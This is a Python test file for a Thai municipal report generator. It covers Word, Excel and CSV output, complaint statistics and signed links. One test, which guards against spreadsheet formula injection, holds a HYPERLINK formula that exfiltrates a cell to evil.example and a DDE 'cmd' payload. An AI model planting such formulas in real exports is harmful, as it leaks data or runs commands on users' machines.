"""The report model and its renderers, from plain facts (no database, no web): what each cell says, Word
in Thai government style, Excel and CSV, complaint statistics, signed links and round names."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime, timedelta

import docx
import openpyxl
import pytest
from docx.shared import Cm
from PIL import Image

from domain.complaints.categories import Category, ComplaintType
from domain.complaints.stats import ComplaintFacts, complaint_statistics
from domain.complaints.workflow import ComplaintMode, ComplaintStatus
from domain.digits import DigitStyle
from domain.reports.complaints import assemble_complaint_stats, process_steps
from domain.reports.complaints_docs import render_complaints_docx, render_complaints_xlsx
from domain.reports.links import (
    BadLink,
    ExpiredLink,
    LinkSigner,
    ReportFormat,
    ReportKind,
    ReportLinks,
    ReportTicket,
)
from domain.reports.pictures import fit_picture
from domain.reports.progress import (
    EvidenceFacts,
    MeasureFacts,
    ReportFacts,
    ReportOptions,
    RoundFacts,
    RoundReport,
    Signatory,
    UnitFacts,
    assemble_round_report,
)
from domain.reports.progress_docx import render_progress_docx
from domain.reports.progress_xlsx import render_progress_csv, render_progress_xlsx
from domain.reports.round_key import parse_round_key
from texts import documents

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
STATUS = {"done": "ดำเนินการแล้วเสร็จ", "in_progress": "กำลังดำเนินการ", "problem": "มีปัญหา-อุปสรรค"}
ROUND = RoundFacts(6, date(2023, 10, 1), date(2024, 3, 31), date(2024, 4, 7))
UNITS = [UnitFacts(1, "สำนักปลัดเทศบาล"), UnitFacts(2, "กองคลัง"), UnitFacts(3, "กองช่าง")]
ISSUE_1 = "กระบวนการปฏิบัติงานที่โปร่งใสและมีประสิทธิภาพ"
ISSUE_5 = "กระบวนการสร้างความโปร่งใสในการใช้งบประมาณและการจัดซื้อจัดจ้าง"


def measure(seq: int, *, units: tuple[int, ...] = (1,), all_units: bool = False, issue_no: int | None = 1,
            issue: str = ISSUE_1, steps: tuple[str, ...] = ("จัดทำประกาศ", "เผยแพร่ทางเว็บไซต์ 2 ช่องทาง")
            ) -> MeasureFacts:
    return MeasureFacts(seq * 10, seq, issue_no, issue, f"มาตรการที่ {seq} ประจำปี 2567", steps, all_units, units,
                        date(2023, 10, 1), date(2024, 9, 30))


def report(measure_seq: int, unit: int, details: str, problems: str = "", *, version: int = 1,
           status: str = "done", percent: int | None = 100) -> ReportFacts:
    return ReportFacts(measure_seq * 10, unit, status, percent, details, problems, version, date(2024, 3, 15))


def build(measures: list[MeasureFacts], reports: list[ReportFacts], evidence: list[EvidenceFacts] = (),
          **options: object) -> RoundReport:
    return assemble_round_report(org_name="เทศบาลตำบลทดสอบ", fiscal_year_be=2567, round=ROUND,
                                 as_of=date(2024, 3, 20), measures=measures, units=UNITS, reports=reports,
                                 evidence=evidence, status_names=STATUS, options=ReportOptions(**options))


def texts(lines: list) -> list[tuple[str | None, str]]:
    return [(line.unit, line.text) for line in lines]


def png(width: int, height: int, mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, (width, height), (200, 30, 30) if mode == "RGB" else (200, 30, 30, 128)).save(out, "PNG")
    return out.getvalue()


# -- the model -------------------------------------------------------------------------------------------
def test_cells_of_single_shared_and_unreported_measures() -> None:
    model = build(
        [measure(1), measure(2, all_units=True, units=()), measure(3, units=(2, 3)), measure(4, units=(3,))],
        [report(1, 1, "ประกาศแล้ว", "งบประมาณจำกัด", version=1), report(1, 1, "ประกาศและเผยแพร่แล้ว", version=2),
         report(2, 2, "อบรมแล้ว", "ไม่มี"), report(3, 1, "สำนักปลัดช่วยรายงาน")])
    one, every, shared, none = model.measures
    assert texts(one.result_lines) == [(None, "ประกาศและเผยแพร่แล้ว")]  # the latest version only
    assert texts(one.problem_lines) == [(None, documents.NO_PROBLEMS)]  # version 2 gave no problems
    assert texts(every.result_lines) == [("สำนักปลัดเทศบาล", documents.NOT_REPORTED), ("กองคลัง", "อบรมแล้ว"),
                                         ("กองช่าง", documents.NOT_REPORTED)]
    assert texts(every.problem_lines) == [("กองคลัง", "ไม่มี")]
    # A unit that reported on a measure it no longer answers for still shows, after the expected ones.
    assert [u.unit for u in shared.units] == ["กองคลัง", "กองช่าง", "สำนักปลัดเทศบาล"]
    assert texts(none.result_lines) == [(None, documents.NOT_REPORTED)]
    assert (model.expected, model.reported) == (1 + 3 + 3 + 1, 3)
    assert model.status_counts() == {"ดำเนินการแล้วเสร็จ": 3}
    assert one.step_lines == ["1. จัดทำประกาศ", "2. เผยแพร่ทางเว็บไซต์ 2 ช่องทาง"]
    assert measure(5, steps=("ขั้นตอนเดียว",)).steps and build([measure(5, steps=("ขั้นตอนเดียว",))], []
                                                              ).measures[0].step_lines == ["ขั้นตอนเดียว"]


def test_measures_are_grouped_under_their_issue_in_plan_order() -> None:
    model = build([measure(1), measure(2, issue_no=5, issue=ISSUE_5), measure(3), measure(4, issue_no=None, issue="")],
                  [])
    assert [(g.heading, [m.seq for m in g.measures]) for g in model.groups] == [
        (f"ประเด็นที่ 1 {ISSUE_1}", [1, 3]), (f"ประเด็นที่ 5 {ISSUE_5}", [2]), (None, [4])]


# -- Word ----------------------------------------------------------------------------------------------------
def read_docx(data: bytes) -> docx.document.Document:
    return docx.Document(io.BytesIO(data))


def test_word_style_fonts_landscape_grouping_and_thai_digits() -> None:
    model = build([measure(1), measure(2, issue_no=5, issue=ISSUE_5, units=(1, 2))],
                  [report(1, 1, "ทำแล้ว 3 ครั้ง\nบรรทัดที่สอง"), report(2, 2, "เผยแพร่ 12 รายการ", "ล่าช้า")])
    document = read_docx(render_progress_docx(model, lambda _: None))
    section = document.sections[0]
    assert section.page_width > section.page_height and abs(section.page_width - Cm(29.7)) < Cm(0.05)
    fonts = document.styles.element.find(f"{W}docDefaults/{W}rPrDefault/{W}rPr/{W}rFonts")
    assert fonts.get(f"{W}cs") == fonts.get(f"{W}ascii") == fonts.get(f"{W}hAnsi") == "TH Sarabun New"
    # No style may name a theme font: it would win over TH Sarabun New.
    assert not [f for f in document.styles.element.iter(f"{W}rFonts") if any("Theme" in a for a in f.attrib)]
    body = "\n".join(p.text for p in document.paragraphs)
    assert "ประจำปีงบประมาณ พ.ศ. ๒๕๖๗ (รอบ ๖ เดือน)" in body and "เทศบาลตำบลทดสอบ" in body
    assert "ระยะเวลา ๑ ตุลาคม ๒๕๖๖ ถึง ๓๑ มีนาคม ๒๕๖๗" in body
    table = document.tables[0]
    rows = [[c.text for c in r.cells] for r in table.rows]
    assert rows[0] == list(documents.COLUMNS)
    assert rows[1] == [f"ประเด็นที่ ๑ {ISSUE_1}"] * 4  # a heading row spanning the four columns
    assert rows[1 + 1] == ["๑. มาตรการที่ ๑ ประจำปี ๒๕๖๗", "๑. จัดทำประกาศ\n๒. เผยแพร่ทางเว็บไซต์ ๒ ช่องทาง",
                           "ทำแล้ว ๓ ครั้ง\nบรรทัดที่สอง", "-"]
    assert rows[3] == [f"ประเด็นที่ ๕ {ISSUE_5}"] * 4
    assert rows[4][2:] == ["สำนักปลัดเทศบาล: ยังไม่ได้รายงาน\nกองคลัง: เผยแพร่ ๑๒ รายการ", "กองคลัง: ล่าช้า"]
    header = table.rows[0]._tr
    assert header.find(f"{W}trPr/{W}tblHeader") is not None  # repeated on every page
    arabic = read_docx(render_progress_docx(build([measure(1)], [report(1, 1, "ทำแล้ว 3 ครั้ง")],
                                                  digits=DigitStyle.ARABIC), lambda _: None))
    assert [c.text for c in arabic.tables[0].rows[2].cells][:3] == [
        "1. มาตรการที่ 1 ประจำปี 2567", "1. จัดทำประกาศ\n2. เผยแพร่ทางเว็บไซต์ 2 ช่องทาง", "ทำแล้ว 3 ครั้ง"]
    assert "พ.ศ. 2567 (รอบ 6 เดือน)" in "\n".join(p.text for p in arabic.paragraphs)


def test_word_signature_block_by_position_with_optional_names() -> None:
    model = build([measure(1)], [], signatories=(Signatory("ผู้รายงาน"), Signatory("ปลัดเทศบาล", "นายสมชาย ใจดี")))
    document = read_docx(render_progress_docx(model, lambda _: None))
    cells = [c.text for c in document.tables[1].rows[0].cells]
    assert cells[0].endswith(f"{documents.SIGN_NAME_BLANK}\nผู้รายงาน")
    assert cells[1].endswith("(นายสมชาย ใจดี)\nปลัดเทศบาล")
    none = read_docx(render_progress_docx(build([measure(1)], [], signatories=()), lambda _: None))
    assert len(none.tables) == 1


def test_word_annex_scales_pictures_and_lists_other_files() -> None:
    files = {1: png(3000, 1000), 2: png(500, 2000, "RGBA"), 3: b"\xff\xd8\xff\xe0 not really a jpeg", 4: b"%PDF"}
    evidence = [EvidenceFacts(1, 10, 1, "image", None, "image/jpeg", 10), EvidenceFacts(2, 10, 1, "image", None,
                                                                                     "image/png", 10),
                EvidenceFacts(3, 10, 1, "image", None, "image/jpeg", 10),
                EvidenceFacts(4, 10, 1, "file", "บันทึกการประชุม.pdf", "application/pdf", 4)]
    loaded: list[int] = []

    def load(evidence_id: int) -> bytes:
        loaded.append(evidence_id)
        return files[evidence_id]

    document = read_docx(render_progress_docx(build([measure(1)], [report(1, 1, "ทำแล้ว")], evidence), load))
    assert loaded == [1, 2, 3]  # a file that is no picture is never loaded
    wide, tall = document.inline_shapes
    assert (round(wide.width / Cm(1), 2), round(wide.height / Cm(1), 2)) == (16.0, 5.33)
    assert (round(tall.width / Cm(1), 2), round(tall.height / Cm(1), 2)) == (2.25, 9.0)
    text = "\n".join(p.text for p in document.paragraphs)
    assert "ภาพที่ ๑ (สำนักปลัดเทศบาล)" in text and "ภาพที่ ๒ (สำนักปลัดเทศบาล)" in text
    assert "รูปภาพ (เปิดไม่ได้): รูปภาพ #๓ (สำนักปลัดเทศบาล)" in text
    assert "ไฟล์แนบ: บันทึกการประชุม.pdf (สำนักปลัดเทศบาล)" in text
    assert "มาตรการที่ ๑ มาตรการที่ ๑ ประจำปี ๒๕๖๗" in text
    empty = read_docx(render_progress_docx(build([measure(1)], []), load))
    assert documents.ANNEX_EMPTY in "\n".join(p.text for p in empty.paragraphs)


def test_fit_picture_keeps_the_shape_shrinks_and_refuses_what_is_no_picture() -> None:
    fitted = fit_picture(png(4000, 3000), 16, 9)
    assert fitted is not None and fitted.data[:3] == b"\xff\xd8\xff"  # re-encoded as JPEG
    with Image.open(io.BytesIO(fitted.data)) as image:
        assert image.size == (1600, 1200)
    assert (fitted.width_emu, fitted.height_emu) == (12 * 360000, 9 * 360000)
    assert fit_picture(png(10, 10, "RGBA"), 16, 9).data[:4] == b"\x89PNG"
    small = io.BytesIO()
    Image.new("RGB", (800, 600), (1, 2, 3)).save(small, "JPEG")
    assert fit_picture(small.getvalue(), 16, 9).data == small.getvalue()  # small enough: in as it is
    turned = io.BytesIO()
    exif = Image.Exif()
    exif[0x0112] = 6  # taken with the phone turned: to be shown rotated 90°
    Image.new("RGB", (800, 600), (1, 2, 3)).save(turned, "JPEG", exif=exif)
    upright = fit_picture(turned.getvalue(), 16, 9)
    assert upright is not None and upright.data != turned.getvalue()
    with Image.open(io.BytesIO(upright.data)) as image:
        assert image.size == (600, 800)
    assert fit_picture(b"GIF89a broken", 16, 9) is None
    assert fit_picture(b"", 16, 9) is None


def test_control_characters_from_chat_texts_do_not_break_the_files() -> None:
    model = build([measure(1)], [report(1, 1, "ข้อความ\x00มี\x08อักขระ\x1fควบคุม", "ปัญหา\x07")])
    document = read_docx(render_progress_docx(model, lambda _: None))
    assert document.tables[0].rows[2].cells[2].text == "ข้อความมีอักขระควบคุม"
    sheet = openpyxl.load_workbook(io.BytesIO(render_progress_xlsx(model)))[documents.DETAIL_SHEET]
    assert sheet["I2"].value == "ข้อความมีอักขระควบคุม"


# -- Excel and CSV ---------------------------------------------------------------------------------------------
def test_excel_has_a_summary_and_one_row_per_measure_and_unit() -> None:
    model = build([measure(1), measure(2, all_units=True, units=(), issue_no=5, issue=ISSUE_5)],
                  [report(1, 1, "ประกาศแล้ว", "ไม่มี"), report(2, 2, "อบรม <3> & \"ครบ\"", status="in_progress",
                                                               percent=60)],
                  [EvidenceFacts(1, 20, 2, "image", None, "image/jpeg", 1)])
    book = openpyxl.load_workbook(io.BytesIO(render_progress_xlsx(model)))
    assert book.sheetnames == [documents.SUMMARY_SHEET, documents.DETAIL_SHEET]
    detail = book[documents.DETAIL_SHEET]
    rows = [[c.value for c in row] for row in detail.iter_rows()]
    assert rows[0] == list(documents.DETAIL_COLUMNS)
    assert len(rows) == 1 + 1 + 3
    assert rows[1] == [1, 1, ISSUE_1, "มาตรการที่ 1 ประจำปี 2567", "1. จัดทำประกาศ\n2. เผยแพร่ทางเว็บไซต์ 2 ช่องทาง",
                       "สำนักปลัดเทศบาล", "ดำเนินการแล้วเสร็จ", 100, "ประกาศแล้ว", "ไม่มี", "15 มี.ค. 2567", 1, 0]
    assert rows[2][5:10] == ["สำนักปลัดเทศบาล", documents.NOT_REPORTED, None, None, None]
    assert rows[3][5:] == ["กองคลัง", "กำลังดำเนินการ", 60, "อบรม <3> & \"ครบ\"", None, "15 มี.ค. 2567", 1, 1]
    assert detail.freeze_panes == "A2"
    assert detail["I4"].font.name == "TH Sarabun New" and detail["I4"].alignment.wrap_text
    assert detail["A1"].font.b
    summary = {row[0].value: row[1].value for row in book[documents.SUMMARY_SHEET].iter_rows() if row[0].value}
    assert summary[documents.SUMMARY_ROWS["expected"]] == 4 and summary[documents.SUMMARY_ROWS["reported"]] == 2
    assert summary["ดำเนินการแล้วเสร็จ"] == 1 and summary[f"ประเด็นที่ 5 {ISSUE_5}"] == 1
    with zipfile.ZipFile(io.BytesIO(render_progress_xlsx(model))) as archive:
        assert archive.testzip() is None


def test_csv_is_utf8_with_bom_and_the_same_rows() -> None:
    model = build([measure(1, units=(1, 2))], [report(1, 2, "บรรทัดแรก\nบรรทัด, สอง")])
    data = render_progress_csv(model)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == list(documents.DETAIL_COLUMNS)
    assert [r[5:9] for r in rows[1:]] == [["สำนักปลัดเทศบาล", documents.NOT_REPORTED, "", ""],
                                          ["กองคลัง", "ดำเนินการแล้วเสร็จ", "100", "บรรทัดแรก\nบรรทัด, สอง"]]


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
CALC = "=cmd|' /C calc'!A0"


def test_texts_a_spreadsheet_would_run_as_formulas_stay_texts() -> None:
    # OWASP's advice for CSV: a cell starting with = + - @ tab or CR gets a leading '; Excel cells are strings.
    model = build([measure(1, issue_no=None, issue=CALC, steps=("+1+1",)), measure(2, units=(1, 2))],
                  [report(1, 1, HYPERLINK, "-2+3"), report(2, 1, "@SUM(A1:A9)", "\t=1+1"),
                   report(2, 2, "\r=1+1", "ไม่มี - ปกติ")])
    rows = list(csv.reader(io.StringIO(render_progress_csv(model).decode("utf-8-sig"))))
    assert [rows[1][2], rows[1][4], rows[1][8], rows[1][9]] == [f"'{CALC}", "'+1+1", f"'{HYPERLINK}", "'-2+3"]
    assert [rows[2][8], rows[2][9]] == ["'@SUM(A1:A9)", "'\t=1+1"]
    assert [rows[3][8], rows[3][9], rows[3][7]] == ["'\r=1+1", "ไม่มี - ปกติ", "100"]  # numbers stay numbers
    book = openpyxl.load_workbook(io.BytesIO(render_progress_xlsx(model)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    risky = [cell for cell in cells if cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {cell.value for cell in risky} >= {CALC, HYPERLINK, "@SUM(A1:A9)", "-2+3"}
    assert [(cell.coordinate, cell.data_type) for cell in risky if cell.data_type != "s"] == []


# -- complaint statistics -------------------------------------------------------------------------------------------
def complaint(month: int, day: int, category: Category, status: ComplaintStatus) -> ComplaintFacts:
    year = 2023 if month >= 10 else 2024
    kind = ComplaintType.GRIEVANCE if category is Category.GRIEVANCE else ComplaintType.CORRUPTION
    received = datetime(year, month, day, 3, 0, tzinfo=UTC)
    closed = received + timedelta(days=20) if status is ComplaintStatus.RESOLVED else None
    return ComplaintFacts(received, kind, category, status, ComplaintMode.ANONYMOUS,
                          received + timedelta(days=2), closed)


def stats_report(facts: list[ComplaintFacts], **options: object):  # type: ignore[no-untyped-def]
    from domain.complaints.categories import CATEGORY_NAMES_TH

    return assemble_complaint_stats(
        complaint_statistics(facts, 2567), org_name="เทศบาลตำบลทดสอบ", as_of=date(2024, 5, 1),
        category_names={c.value: n for c, n in CATEGORY_NAMES_TH.items()},
        status_names={"received": "รับเรื่องแล้ว", "resolved": "ดำเนินการแล้วเสร็จ"},
        type_names={"corruption": "ทุจริตและประพฤติมิชอบ", "grievance": "เรื่องราวร้องทุกข์ทั่วไป"},
        steps=process_steps(7, 30, 90), options=ReportOptions(**options))


FACTS = [complaint(10, 5, Category.BRIBERY, ComplaintStatus.RECEIVED),
         complaint(10, 9, Category.BRIBERY, ComplaintStatus.RESOLVED),
         complaint(12, 1, Category.PROCUREMENT, ComplaintStatus.RESOLVED),
         complaint(3, 3, Category.GRIEVANCE, ComplaintStatus.RECEIVED)]


def test_complaint_statistics_model_counts_by_month_category_and_status() -> None:
    model = stats_report(FACTS)
    assert model.total == 4
    october = model.months[0]
    assert (october.label, october.total) == ("ต.ค. 2566", 2)
    bribery = model.categories.index("เรียกรับสินบน")
    assert october.by_category[bribery] == 2
    assert october.detail[bribery][model.statuses.index("รับเรื่องแล้ว")] == 1
    assert october.detail[bribery][model.statuses.index("ดำเนินการแล้วเสร็จ")] == 1
    assert dict(model.by_type) == {"ทุจริตและประพฤติมิชอบ": 3, "เรื่องราวร้องทุกข์ทั่วไป": 1}
    assert model.medians_line == documents.COMPLAINTS_MEDIANS.format(first="2", close="20")
    assert "ภายใน 7 วัน" in model.process_steps[1] and "ภายใน 90 วัน" in model.process_steps[3]


def test_complaint_statistics_word_and_excel() -> None:
    model = stats_report(FACTS)
    document = read_docx(render_complaints_docx(model))
    body = "\n".join(p.text for p in document.paragraphs)
    assert "ข้อมูลเชิงสถิติเรื่องร้องเรียนการทุจริตและประพฤติมิชอบ" in body and "พ.ศ. ๒๕๖๗" in body
    assert "เรื่องร้องเรียนที่ได้รับทั้งหมด ๔ เรื่อง" in body
    assert documents.PROCESS_TITLE in body and "๒. เจ้าหน้าที่รับเรื่องและคัดกรองภายใน ๗ วัน" in body
    types, statuses, months, detail = document.tables[:4]
    assert [c.text for c in types.rows[1].cells] == ["ทุจริตและประพฤติมิชอบ", "๓"]
    assert [c.text for c in statuses.rows[1].cells] == ["รับเรื่องแล้ว", "๒"]
    assert months.rows[1].cells[0].text == "ต.ค. ๒๕๖๖"
    assert [c.text for c in months.rows[-1].cells][-1] == "๔"
    detail_rows = [[c.text for c in r.cells] for r in detail.rows]
    assert detail_rows[1][:2] == ["ต.ค. ๒๕๖๖", "เรียกรับสินบน"]
    assert detail_rows[2][1] == documents.COMPLAINTS_NONE_IN_MONTH  # November: nothing
    book = openpyxl.load_workbook(io.BytesIO(render_complaints_xlsx(model)))
    assert book.sheetnames == [documents.COMPLAINTS_SHEET_SUMMARY, documents.COMPLAINTS_SHEET_MONTHS,
                               documents.COMPLAINTS_SHEET_DETAIL, documents.COMPLAINTS_SHEET_PROCESS]
    grid = list(book[documents.COMPLAINTS_SHEET_DETAIL].iter_rows(values_only=True))
    assert len(grid) == 1 + 12 * len(model.categories)  # every month × category, zeros included
    assert sum(row[-1] for row in grid[1:]) == 4
    assert list(book[documents.COMPLAINTS_SHEET_MONTHS].iter_rows(values_only=True))[-1][-1] == 4


# -- links and rounds -------------------------------------------------------------------------------------------------
NOW = datetime(2024, 3, 20, 2, 0, tzinfo=UTC)


def test_signed_links_verify_expire_and_refuse_tampering() -> None:
    links = ReportLinks(LinkSigner.from_secret_key("s3cret"), "https://ita.example.go.th/", timedelta(days=7))
    ticket = ReportTicket(3, ReportKind.PROGRESS, 2567, 6, ReportFormat.XLSX)
    signed = links.link(ticket, NOW)
    assert signed.url.startswith("https://ita.example.go.th/reports/") and signed.expires_at == NOW + timedelta(days=7)
    token = signed.url.rsplit("/", 1)[1]
    assert links.signer.verify(token, NOW + timedelta(days=6, hours=23)) == ticket
    with pytest.raises(ExpiredLink) as expired:
        links.signer.verify(token, NOW + timedelta(days=7))
    assert expired.value.ticket == ticket and expired.value.expired_at == NOW + timedelta(days=7)
    payload, signature = token.split(".")
    forged = LinkSigner.from_secret_key("s3cret").sign(ReportTicket(4, ReportKind.PROGRESS, 2567, 6,
                                                                    ReportFormat.XLSX), NOW).split(".")[0]
    for bad in (f"{forged}.{signature}", f"{payload}.{signature[:-2]}AA", payload, "", "a.b.c", "%%%.###"):
        with pytest.raises(BadLink):
            links.signer.verify(bad, NOW)
    with pytest.raises(BadLink):  # another deployment's key
        LinkSigner.from_secret_key("other").verify(token, NOW)
    with pytest.raises(ValueError):
        ReportTicket(3, ReportKind.COMPLAINTS, 2567, 0, ReportFormat.CSV)


@pytest.mark.parametrize(("text", "months"), [
    ("6", 6), ("๖", 6), ("รอบ 6 เดือน", 6), ("รอบ ๑๒ เดือน", 12), ("รอบ๖เดือน", 6), ("6m", 6), ("รอบที่ 3", 3),
    (" 12 เดือน ", 12), ("13", None), ("0", None), ("รอบ", None), ("หก", None), ("", None)])
def test_round_names(text: str, months: int | None) -> None:
    assert parse_round_key(text) == months
